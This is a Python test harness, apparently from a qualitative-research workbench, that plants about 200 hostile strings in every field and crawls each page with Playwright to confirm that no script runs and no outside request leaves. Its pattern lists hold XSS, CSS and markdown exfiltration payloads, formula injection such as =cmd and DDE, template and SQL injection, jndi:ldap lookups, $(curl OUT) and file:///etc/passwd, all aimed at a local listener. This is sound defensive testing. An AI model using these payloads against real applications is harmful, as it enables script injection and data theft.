"""Show 200 hostile texts in the real browser, everywhere that the workbench draws data.

    python -m bench.hostile [--texts 200]

Each text stands as a sentence, a code and its definition, a theme and its concept, a
participant, a speaker, a recording, a transcript, a member and the purpose of an export
(where it is not refused at the door), and every page is visited. Counted are: scripts
that ran (each text calls a function that only counts), windows and dialogs that opened,
requests to anywhere but the workbench (a listening server plays the world outside), and
attempts that the content policy had to stop. All must be none.
"""

import argparse
import re
import shutil
import sys
import tempfile
import threading
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

from playwright.sync_api import Browser, ConsoleMessage, Dialog, Error, Page, sync_playwright

import coding
import themes
import transcribe
from bench.crawl import served
from secure_storage import FLOOR, FokusError, Study, create_study, request_export, unlock
from transcribe.store.recordings import insert_recording

NAME, PASSPHRASE = "Bench", "a long enough bench phrase"
PAGES = (
    "", "recordings", "transcript", "coding", "codebook", "themes", "quotes", "export",
    "members", "exports", "audit", "erasure",
)  # fmt: skip
BATCH = 40
"""Texts in one study."""

HTML = (
    "<script>JS</script>", "<script src=OUT></script>", "<img src=OUT>", "<img src=x onerror=JS>",
    "<svg onload=JS>", "<svg><script>JS</script></svg>", "<body onload=JS>", "<iframe src=OUT>",
    "<iframe srcdoc='<script>parent.JS</script>'>", "<object data=OUT>", "<embed src=OUT>",
    "<link rel=stylesheet href=OUT>", "<link rel=prefetch href=OUT>", "<base href=OUT/>",
    "<meta http-equiv=refresh content='0;url=OUT'>", "<video src=OUT autoplay>",
    "<audio src=OUT autoplay>", "<video poster=OUT>", "<input autofocus onfocus=JS>",
    "<details open ontoggle=JS>", "<marquee onstart=JS>", "<form action=OUT><button>Send</button>",
    "<a href=OUT ping=OUT>here</a>", "<math><mtext></p><img src=OUT></math>",
    "<style>@import 'OUT';</style>", "<table background=OUT>", "<picture><source srcset=OUT>",
    "<template><img src=OUT></template>", "<noscript><img src=OUT></noscript>",
    "</textarea><img src=OUT>", "</title><script>JS</script>", "--><script>JS</script>",
    "]]><script>JS</script>", "'\"><script>JS</script>", "\"onmouseover=JS x=\"",
    "' onfocus=JS autofocus='", "<scr<script>ipt>JS</script>", "<IMG SRC=OUT>",
    "<img/src=OUT>", "<img src='OUT' style='display:none'>", "&lt;img src=OUT&gt;",
    "&#60;script&#62;JS&#60;/script&#62;", "\\u003cscript\\u003e JS\\u003c/script\\u003e",
    "%3Cscript%3E JS%3C/script%3E", "<x onclick=JS style=position:fixed;inset:0>",
    "<a href=OUT target=_blank>open</a>", "<portal src=OUT>", "<frameset onload=JS>",
    "<dialog open onclose=JS>", "<button popovertarget=x onbeforetoggle=JS>",
)  # fmt: skip
MARKDOWN = (
    "![x](OUT)", "![x](OUT 'title')", "[![x](OUT)](OUT)", "![x][r]\n\n[r]: OUT", "<OUT>", "OUT",
    "[x](javascript:JS)", "[x](JaVaScRiPt:JS)", "[x](data:text/html,<script>JS</script>)",
    "[x](vbscript:JS)", "[x](OUT)", "[r]: OUT", "# heading ![x](OUT)", "* ![x](OUT)",
    "> ![x](OUT)", "`![x](OUT)`", "```\n<script>JS</script>\n```", "| ![x](OUT) |\n|---|",
    "**<img src=OUT>**", "~~![x](OUT)~~", "[^1]: ![x](OUT)", "![](<OUT>)", "- [ ] ![x](OUT)",
    "---\n![x](OUT)", "\\![x](OUT)", "![x](//127.0.0.1:PORT/N)", ":material/home: ![x](OUT)",
    ":red[![x](OUT)]", ":red-background[<img src=OUT>]", ":blue-badge[![x](OUT)]",
    ":small[![x](OUT)]", ":smile: <script>JS</script>", "$\\href{OUT}{x}$",
    "$\\includegraphics{OUT}$", "$$\\url{javascript:JS}$$", "$\\htmlData{onclick=JS}{x}$",
    "<!-- streamlit --> ![x](OUT)", "<- -> -- ![x](OUT)", "www.127.0.0.1:PORT/N",
    "mailto:x@127.0.0.1?body=OUT",
)  # fmt: skip
STYLES = (
    "<style>*{background:url(OUT)}</style>", "<p style=background:url(OUT)>",
    "}*{background:url(OUT)}",
    "<style>@font-face{font-family:x;src:url(OUT)}*{font-family:x}</style>",
    "<div style='position:fixed;inset:0;background:red'>", "expression(JS)",
    "</style><script>JS</script>", "<style>input[value^=a]{background:url(OUT)}</style>",
    "url(OUT)", "x;background-image:url(OUT)", "<style>body{display:none}</style>",
    "behavior:url(OUT)", "-moz-binding:url(OUT)", "<svg><style>@import'OUT'</style></svg>",
    "<svg><image href=OUT></svg>", "<svg><use href=OUT#x></svg>", "image-set('OUT' 1x)",
    "<svg><a href=javascript:JS><text>x</text></a></svg>",
    "<svg><animate onbegin=JS attributeName=x>", "<svg><foreignObject><img src=OUT>",
)  # fmt: skip
SCHEMES = (
    "javascript:JS", "JAVASCRIPT:JS", "java\tscript:JS", "javascript://%0a JS", " javascript:JS",
    "data:text/html,<script>JS</script>", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:JS",
    "blob:OUT", "view-source:OUT", "file:///etc/passwd", "ftp://127.0.0.1:PORT/N",
    "//127.0.0.1:PORT/N",
    "ws://127.0.0.1:PORT/N", "intent://127.0.0.1:PORT/N", "filesystem:OUT", "about:blank#JS",
    "jar:OUT!/x", "\\\\127.0.0.1\\N\\x", "feed:javascript:JS",
)  # fmt: skip
FORMULAS = (
    "=HYPERLINK(\"OUT\",\"x\")", "=WEBSERVICE(\"OUT\")", "=IMPORTXML(\"OUT\",\"//a\")", "=1+1",
    "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=IMAGE(\"OUT\")",
    "=DDE(\"cmd\";\"x\";\"y\")", "％=1+1", "＝1+1", "'=1+1", "\"=1+1\"", ";=1+1", ",=1+1,",
    "=IMPORTDATA(\"OUT\")", "|=1+1",
)  # fmt: skip
TEMPLATES = (
    "{{constructor.constructor('JS')()}}", "{{7*7}}", "${JS}", "`${JS}`", "<%= JS %>", "#{JS}",
    "{% raw %}JS{% endraw %}", "[[${JS}]]", "*{JS}", "@(JS)", "%(x)s %s %d %n", "{0.__class__}",
    "{study.member}", "__proto__", "constructor", "toString", "${jndi:ldap://127.0.0.1:PORT/N}",
    "'; DROP TABLE codes; --", "\" OR 1=1 --", "$(curl OUT)",
)  # fmt: skip
LETTERS = (
    "\u202egpj.exe\u202c N", "\u2066\u2067right\u2069 N", "a\u200bb\u200cc\u200dd\ufeff N",
    "\u2400JS", "Z\u0351\u036b\u0343\u032a" * 8 + " N",
    "\u05d0\u05d1 <img src=OUT>",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 N", "\u2028JS\u2029", "\ufdfd" * 20 + " N",
    "null N",
    "undefined N", "NaN N", "[object Object] N", "-0 N", "\u00ad" * 30 + "N", "\u115f\u3164 N",
    "K\u0130\u0131\u017fs N", "\ud7ff\ue000 N", "\x1b[31mred\x1b[0m N", "../../../etc/passwd N",
)  # fmt: skip
LONG = (
    "<img src=OUT>" * 6, "a" * 79, "word " * 15, "<b>" * 25, "![x](OUT)" * 8,
    "<script>JS</script>" * 300, "[" * 78, "<div>" * 2000, "![x](OUT)" * 1000, "*" * 10_000,
)  # fmt: skip
PATTERNS = (*HTML, *MARKDOWN, *STYLES, *SCHEMES, *FORMULAS, *TEMPLATES, *LETTERS, *LONG)


@dataclass(slots=True)
class Watch:
    """What happened in the browser that should not."""

    own: str = ""
    scripts: list[str] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)
    hits: list[str] = field(default_factory=list)
    stopped: list[str] = field(default_factory=list)
    drawn: int = 0
    """Sentences that were seen on the transcript page, word for word."""

    @property
    def clean(self) -> bool:
        """Nothing happened."""
        return not (self.scripts or self.outside or self.hits or self.stopped)


@contextmanager
def world(watch: Watch) -> Iterator[int]:
    """Listen as the world outside would; gives the port."""

    class Outside(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            watch.hits.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, format: str, *args: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Outside) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_port
        finally:
            server.shutdown()
            thread.join()


def texts(port: int) -> list[str]:
    """Make the texts, all different, for a world that listens at a port."""
    return [
        re.sub(
            r"\b(OUT|JS|PORT|N)\b",
            lambda found, number=number: {  # type: ignore[misc]
                "OUT": f"http://127.0.0.1:{port}/{number}", "JS": f"hostile({number})",
                "PORT": str(port), "N": str(number),
            }[found[0]],
            pattern,
        )
        for number, pattern in enumerate(PATTERNS)
    ]  # fmt: skip


def build(home: Path, hostile: Sequence[str]) -> dict[str, int]:
    """Make a study in which every text stands wherever it is let in; gives how often it was."""
    create_study(home, _short(hostile[0], 190), NAME, PASSPHRASE, cost=FLOOR)
    study = unlock(home, NAME, PASSPHRASE)
    try:
        return _filled(study, hostile)
    finally:
        study.close()


def _filled(study: Study, hostile: Sequence[str]) -> dict[str, int]:
    talk = transcribe.Transcription(
        "en",
        tuple(
            transcribe.Turn(_short(text, 79), (transcribe.Sentence(text, float(at), at + 1.0),))
            for at, text in enumerate(hostile)
        ),
        provenance=tuple((_short(text, 60), text) for text in hostile[:3]),
    )
    first = transcribe.save_transcription(
        study, talk, title=_short(hostile[1], 80), group=1, recording_id=None
    )
    lines = transcribe.sentences(study, first)
    let_in = {"sentence": len(lines), "speaker": len(transcribe.speakers(study, first))}

    def put(what: str, act: Callable[[str], object]) -> None:
        let_in[what] = sum(_taken(act, text) for text in hostile)

    def recorded(text: str) -> None:
        with study.change() as change:
            insert_recording(change, text, 1)

    def exported(text: str) -> None:
        request_export(
            study, data=b"x", form="csv", file_name="table.csv", purpose=text, recipient=text
        )

    put("code", lambda text: coding.add_code(study, text))
    put("definition", lambda text: coding.add_code(study, f"code {hostile.index(text)}", text))
    put("theme", lambda text: themes.add_theme(study, text))
    put("concept", lambda text: themes.add_theme(study, f"theme {hostile.index(text)}", text))
    put("participant", lambda text: transcribe.add_participant(study, 1, text, text[:79]))
    put("recording", recorded)
    put("member", lambda text: study.invite(text, "reader"))
    put("purpose", exported)
    for row, code in zip(lines, coding.list_codes(study), strict=False):
        coding.set_coding(study, first, row.id, row.id, code.id)
        themes.add_quote_to_theme(
            study,
            themes.mark_quote(study, first, row.id, row.id),
            themes.list_themes(study)[0].id,
        )
    people = [one.id for one in transcribe.participants(study)]
    for speaker, person in zip(transcribe.speakers(study, first)[::2], people, strict=False):
        transcribe.link_speaker(study, speaker.id, person)
    return let_in


def _taken(act: Callable[[str], object], text: str) -> bool:
    try:
        act(text)
    except FokusError:
        return False
    return True


def _short(text: str, most: int) -> str:
    return " ".join(text.split())[:most] or "blank"


def visit_all(browser: Browser, address: str, watch: Watch, hostile: Sequence[str]) -> None:
    """Sign in, type texts at the door, and look at every page, opening what can be opened."""
    watch.own = address
    context = browser.new_context(base_url=address, viewport={"width": 1440, "height": 1000})
    context.expose_binding("hostile", lambda source, *said: watch.scripts.append(str(said)))
    page = context.new_page()
    context.on("page", lambda opened: watch.scripts.append(f"window {opened.url}"))
    _listen(page, watch)
    try:
        page.goto("/")
        for text in hostile[:3]:
            _enter(page, text, "wrong wrong wrong")
            page.get_by_role("alert").wait_for()
        _enter(page, NAME, PASSPHRASE)
        page.get_by_role("heading", level=1).wait_for()
        for place in PAGES:
            page.goto(f"/{place}")
            _look_around(page)
            if place == "transcript":
                seen = page.locator(".fokus [data-sentence]").all_text_contents()
                shown = {" ".join(one.split()) for one in seen}
                watch.drawn += sum(
                    any(" ".join(text.split()) in one for one in shown) for text in hostile
                )
    finally:
        context.close()


def _enter(page: Page, name: str, passphrase: str) -> None:
    page.get_by_label("Name").fill(name)
    page.get_by_label("Passphrase").fill(passphrase)
    page.get_by_role("button", name="Sign in").click()


def _listen(page: Page, watch: Watch) -> None:
    own = (watch.own, watch.own.replace("http", "ws", 1), "data:", "blob:", "about:")
    page.on(
        "request",
        lambda asked: None if asked.url.startswith(own) else watch.outside.append(asked.url),
    )

    def dialog(opened: Dialog) -> None:
        watch.scripts.append("dialog")
        opened.dismiss()

    def console(said: ConsoleMessage) -> None:
        if "Content Security Policy" in said.text:
            watch.stopped.append(said.text)

    page.on("dialog", dialog)
    page.on("console", console)


def _look_around(page: Page) -> None:
    settled(page)
    if not page.get_by_role("heading", level=1).count():
        raise RuntimeError(f"{page.url} shows no page: {page.inner_text('body')[:300]}")
    for role in ("tab", "combobox"):
        for number in range(min(page.get_by_role(role).count(), 6)):
            # A redraw may take away what was counted.
            with suppress(Error):
                page.get_by_role(role).nth(number).click(timeout=1500)
                page.wait_for_timeout(150)
                if role == "combobox":
                    page.keyboard.press("Escape")
    for number in range(min(page.locator("summary").count(), 6)):
        with suppress(Error):
            page.locator("summary").nth(number).click(timeout=1500)
    settled(page)
    page.mouse.move(700, 500)
    page.mouse.wheel(0, 5000)
    page.wait_for_timeout(300)


def settled(page: Page) -> None:
    """Wait until Streamlit has drawn the page."""
    page.wait_for_timeout(400)
    page.locator("[data-testid=stApp][data-test-script-state=notRunning]").wait_for(timeout=60_000)


def alarm_works(browser: Browser, port: int, watch: Watch) -> bool:
    """Tell whether the counters count, on a page that does all of it; and clear them."""
    context = browser.new_context()
    context.expose_binding("hostile", lambda source, *said: watch.scripts.append(str(said)))
    page = context.new_page()
    watch.own = "http://own.invalid"
    _listen(page, watch)
    policy = "<meta http-equiv=Content-Security-Policy content=\"font-src 'none'\">"
    outside = f"<img src=http://127.0.0.1:{port}/control>"
    face = f"@font-face{{font-family:x;src:url(http://127.0.0.1:{port}/f)}}"
    font = f"<style>{face}b{{font-family:x}}</style>"
    page.set_content(f"{policy}{outside}{font}<b>x</b><script>hostile(0)</script>")
    page.wait_for_timeout(500)
    works = bool(watch.scripts and watch.outside and watch.hits and watch.stopped)
    context.close()
    for one in (watch.scripts, watch.outside, watch.hits, watch.stopped):
        one.clear()
    return works


def main() -> int:
    """Show the texts and print what happened."""
    options = argparse.ArgumentParser(description=__doc__)
    options.add_argument("--texts", type=int, default=200)
    chosen = options.parse_args()
    watch = Watch()
    let_in: dict[str, int] = {}
    with world(watch) as port, sync_playwright() as playwright, tempfile.TemporaryDirectory() as at:
        browser = playwright.chromium.launch(
            executable_path=shutil.which("chromium"),
            args=["--no-sandbox", "--disable-gpu", "--disable-background-networking"],
        )
        if not alarm_works(browser, port, watch):
            raise RuntimeError("the counters do not count")
        hostile = texts(port)[: chosen.texts]
        for start in range(0, len(hostile), BATCH):
            home = Path(at) / f"study-{start}"
            for what, count in build(home, hostile[start : start + BATCH]).items():
                let_in[what] = let_in.get(what, 0) + count
            with served(home) as served_at:
                address = f"http://127.0.0.1:{served_at}"
                visit_all(browser, address, watch, hostile[start : start + BATCH])
        browser.close()
    print(f"{len(hostile)} texts; let in as " + ", ".join(f"{k} {v}" for k, v in let_in.items()))
    print(f"sentences seen word for word: {watch.drawn}")
    print("| scripts run | requests to elsewhere | reached the outside | stopped by the policy |")
    print("|--:|--:|--:|--:|")
    counts = (watch.scripts, watch.outside, watch.hits, watch.stopped)
    print("| " + " | ".join(str(len(one)) for one in counts) + " |")
    for one in dict.fromkeys([*watch.scripts, *watch.outside, *watch.hits, *watch.stopped]):
        print(f"FOUND: {one[:300]}")
    return 0 if watch.clean else 1


if __name__ == "__main__":
    sys.exit(main())
